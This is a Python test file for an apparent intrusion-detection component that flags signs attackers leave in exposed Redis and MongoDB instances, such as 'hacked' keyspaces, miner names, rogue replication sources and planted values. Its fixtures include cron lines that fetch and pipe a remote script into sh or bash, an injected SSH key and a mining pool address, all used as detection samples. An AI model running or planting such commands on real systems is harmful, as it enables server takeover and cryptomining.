from hypothesis import given, settings
from hypothesis import strategies as st

from tests.each import each
from tests.examples import examples
from tieback.assess.intrusion import MAX_REASONS, IntrusionSigns, load_intrusion_data
from tieback.assess.ransom import RansomSigns
from tieback.model.figure import exact
from tieback.model.probe import Container, Field, RansomVerdict

SIGNS = IntrusionSigns()
DATA = load_intrusion_data()


def box(*path: str, records: int | None = 1, fields: str = "", kind: str = "index", system: bool = False) -> Container:
    figure = None if records is None else exact(records, "count")
    return Container(path, kind, system, figure, fields=tuple(Field(name) for name in fields.split(",") if name))


NAMES = [
    # container, whether it is a sign
    (box("hacked", records=5_000), True),
    (box("Hacked"), True),
    (box("hr", "you_have_been_hacked", records=None), True),
    (box("db0", kind="keyspace", records=900, fields="crackit,session:#"), True),
    (box("db0", kind="keyspace", records=900, fields="kdevtmpfsi"), True),
    (box("poc", records=3), True),
    (box("pentest", records=1), True),
    (box("public", "cmd_exec", kind="table", records=0, fields="cmd_output"), True),
    (box("public", "abroxu", kind="table", records=0, fields="cmd_output"), True),
    (box("shop", "yongger2", kind="table", records=1), True),
    # Honest data.
    (box("poc", records=40_000), False),
    (box("poc", records=None), False),
    (box("hackathon", records=2), False),
    (box("epoch", records=2), False),
    (box("hacked", system=True), False),
    (box("public", "cmd_exec", kind="table", records=10, fields="id,started,command"), False),
    (box("public", "abroxu", kind="table", records=1, fields="id"), False),
    (box("db0", kind="keyspace", records=900, fields="backup#,crackits"), False),
    (box("people", records=3, fields="crackit"), False),
    # A ransom note is reported as such.
    (box("hacked_by_unistellar", records=1), False),
    (box("READ_ME", records=1, fields="email,note"), False),
]


@each(("container", "sign"), NAMES)
def test_names_that_others_leave(container: Container, sign: bool) -> None:
    reasons = SIGNS.reasons("redis", [container])
    assert bool(reasons) is sign, reasons
    assert all(reason.endswith(")") and "(" in reason for reason in reasons)


KEYS = Container(("db0",), "keyspace", records=exact(4, "n"))
VALUES = [
    # sampled value, a part of the reason; empty if it is none
    ("*/1 * * * * root echo lab-only", "crontab"),
    ("\n\n*/2 * * * * curl -fsSL http://192.0.2.7/b.sh | sh\n\n", "crontab"),
    ("\t\n*/3 * * * * wget -q -O- http://192.0.2.7/b.sh | bash\n", "crontab"),
    ("@reboot /tmp/.x/y", "crontab"),
    ("0 * * * * cd /tmp && ./a", "crontab"),
    ("curl http://192.0.2.7/i.sh|sh", "download"),
    ("\n\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7H1nVuQOW7pJ17 x@y\n\n", "SSH key"),
    ("stratum+tcp://pool.test:3333", "mining pool"),
    ("/tmp/kdevtmpfsi", "miner"),
    # Values of honest applications.
    ("*/5 * * * *", ""),
    ("0 0 * * 1", ""),
    ('{"schedule":"*/5 * * * *","name":"report"}', ""),
    ("1 2 3 4 5 6 7", ""),
    ("2026-11-28 10:00:00 curl", ""),
    ("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7H1nVuQOW7pJ17 x@y", ""),
    ("use curl to fetch the file", ""),
    ("wget http://example.test/a.zip", ""),
    ("stratum of society", ""),
    ("", ""),
]


@each(("value", "part"), VALUES)
def test_shapes_of_values_that_others_leave(value: str, part: str) -> None:
    reasons = SIGNS.of_values(KEYS, "backup#", ["x", value])
    assert bool(reasons) is bool(part), reasons
    assert part in " ".join(reasons)
    # No part of a value leaves.
    assert not any(word in " ".join(reasons) for word in ("192.0.2.7", "lab-only", "AAAA", "3333", "/tmp"))


def test_values_of_other_kinds_of_containers_are_no_sign() -> None:
    page = Container(("wiki",), "index", records=exact(4, "n"))
    assert SIGNS.of_values(page, "text", ["*/1 * * * * root curl x | sh"]) == ()


def test_the_number_of_values_is_reported() -> None:
    (reason,) = SIGNS.of_values(KEYS, "backup#", ["*/1 * * * * root echo x"] * 3 + ["honest"])
    assert reason.startswith("3 sampled values (db0, backup#): lines of a crontab")


REPLICATION = [
    # product, address of the primary, state of the link, whether it is a sign
    ("redis", "1.2.3.4", "down", True),
    ("valkey", "2a00:1450:4001::1", "down", True),
    ("redis", "1.2.3.4", "up", False),
    ("redis", "10.0.0.5", "down", False),
    ("redis", "127.0.0.1", "down", False),
    ("redis", "redis-primary", "down", False),
    ("mongodb", "1.2.3.4", "down", False),
]


@each(("product", "host", "link", "sign"), REPLICATION)
def test_a_foreign_source_of_data(product: str, host: str, link: str, sign: bool) -> None:
    traits = [("master_host", host), ("master_link_status", link)]
    assert bool(SIGNS.reasons(product, [], traits)) is sign
    assert SIGNS.reasons(product, [], traits[:1]) == ()


def test_every_group_has_a_source_and_no_name_is_in_the_list_of_ransom_notes() -> None:
    used = {
        *(one.source for one in DATA.names),
        *(one.source for one in DATA.schemas),
        *(one.source for one in DATA.values),
        DATA.replication.source,
    }
    assert used == set(DATA.sources)
    assert all(len(text) > 20 for text in DATA.sources.values())
    ransom = RansomSigns()
    for group in DATA.names:
        for name in (*group.names, *group.weak):
            assert ransom.judge([box(name)]).verdict is RansomVerdict.NONE, name
            assert SIGNS.reasons("redis", [box(name)]), name


def test_reasons_are_bounded() -> None:
    assert len(SIGNS.reasons("mongodb", [box(f"db{n}", "hacked") for n in range(90)])) == MAX_REASONS


@given(st.text(max_size=400), st.text(max_size=60))
@settings(max_examples=examples(100), deadline=None)
def test_any_value_is_searched_in_bounded_time(value: str, name: str) -> None:
    assert len(SIGNS.of_values(KEYS, name, [value * 40])) <= len(DATA.values)
    assert len(SIGNS.reasons("redis", [box(name or "x")])) <= MAX_REASONS
